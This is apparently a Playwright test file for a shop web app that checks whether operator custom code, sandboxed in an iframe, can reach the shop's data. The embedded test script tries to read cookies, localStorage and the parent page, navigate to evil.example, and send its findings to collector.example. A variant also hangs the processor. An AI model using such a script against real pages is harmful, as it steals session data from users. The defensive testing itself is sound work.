import { expect, type Page } from '@playwright/test';
import { customCodePolicy } from '../../server/edge/html/custom-code.ts';
import { long } from '../tier.ts';
import { onScreen, openWithSession, type Shop, test } from './shop.ts';
import { textOf } from './words.ts';

/** Looks for everything that it must not get, and reports what it found; then it ends, or it never ends, which takes a processor. */
const codeThat = (then: 'ends' | 'never ends') => `
  const look = (name, find) => {
    let found;
    try { found = String(find()); } catch (error) { found = 'refused'; }
    return [name, found];
  };
  const found = Object.fromEntries([
    look('origin', () => self.origin),
    look('cookie', () => document.cookie),
    look('storage', () => localStorage.length),
    look('parent', () => parent.document.title),
    look('leave', () => { top.location = 'https://evil.example/'; return 'left'; }),
    look('opened', () => open('https://evil.example/')),
  ]);
  addEventListener('message', (event) => {
    fetch('https://collector.example/' + encodeURIComponent(JSON.stringify({ ...found, told: event.data })), { mode: 'no-cors' })
      ${then === 'never ends' ? '.finally(() => { for (;;); })' : ''};
  });
  parent.postMessage({ type: 'visit', to: '/login' }, '*');
`;

test.describe('the code of an operator', () => {
  test.use({ foreseen: /^(?:Unsafe attempt to initiate navigation|Blocked opening)/ });

  const getsNothing = async (page: Page, shop: Shop, code: string) => {
    const told: Record<string, unknown>[] = [];
    await page.route('https://collector.example/**', async (route) => {
      told.push(JSON.parse(decodeURIComponent(new URL(route.request().url()).pathname.slice(1))));
      await route.fulfill({ status: 204 });
    });
    await page.route(
      (url) => url.pathname === '/app/profile',
      async (route) => {
        const reply = await route.fetch();
        const settings = `"settings":{"customCodeAllowed":true,"customCode":"x",`;
        await route.fulfill({ response: reply, body: (await reply.text()).replace('"settings":{', settings) });
      },
    );
    await page.route('**/app/frames/custom-code', (route) =>
      route.fulfill({
        contentType: 'text/html',
        headers: { 'content-security-policy': customCodePolicy },
        body: '<!doctype html><script src="/app/frames/custom-code.js"></script>',
      }),
    );
    await page.route('**/app/frames/custom-code.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: code }),
    );

    await openWithSession(page, shop, '/profile');
    expect(told).toEqual([]);
    await onScreen(page, textOf('profile.title'))
      .getByRole('button', { name: textOf('shell.cookies_accept') })
      .click();
    // It is told the page, and once how the shop is shown.
    await expect.poll(() => told).toHaveLength(2);
    const found = {
      origin: 'null',
      cookie: 'refused',
      storage: 'refused',
      parent: 'refused',
      leave: 'refused',
      opened: 'null',
    };
    expect(told).toEqual([
      { ...found, told: { type: 'page', path: '/profile' } },
      { ...found, told: { type: 'event', name: 'display-mode', data: { mode: 'browser' } } },
    ]);

    const profile = onScreen(page, textOf('profile.title'));
    await profile.getByRole('button', { name: textOf('common.profile_menu') }).click();
    await profile.getByRole('menuitem', { name: textOf('common.log_out') }).click();
    await page.waitForURL(/\/login/);
  };

  test('gets at nothing of the shop', ({ page, shop }) => getsNothing(page, shop, codeThat('ends')));

  test('leaves the shop alive when it never ends', long, ({ page, shop }) =>
    getsNothing(page, shop, codeThat('never ends')),
  );
});
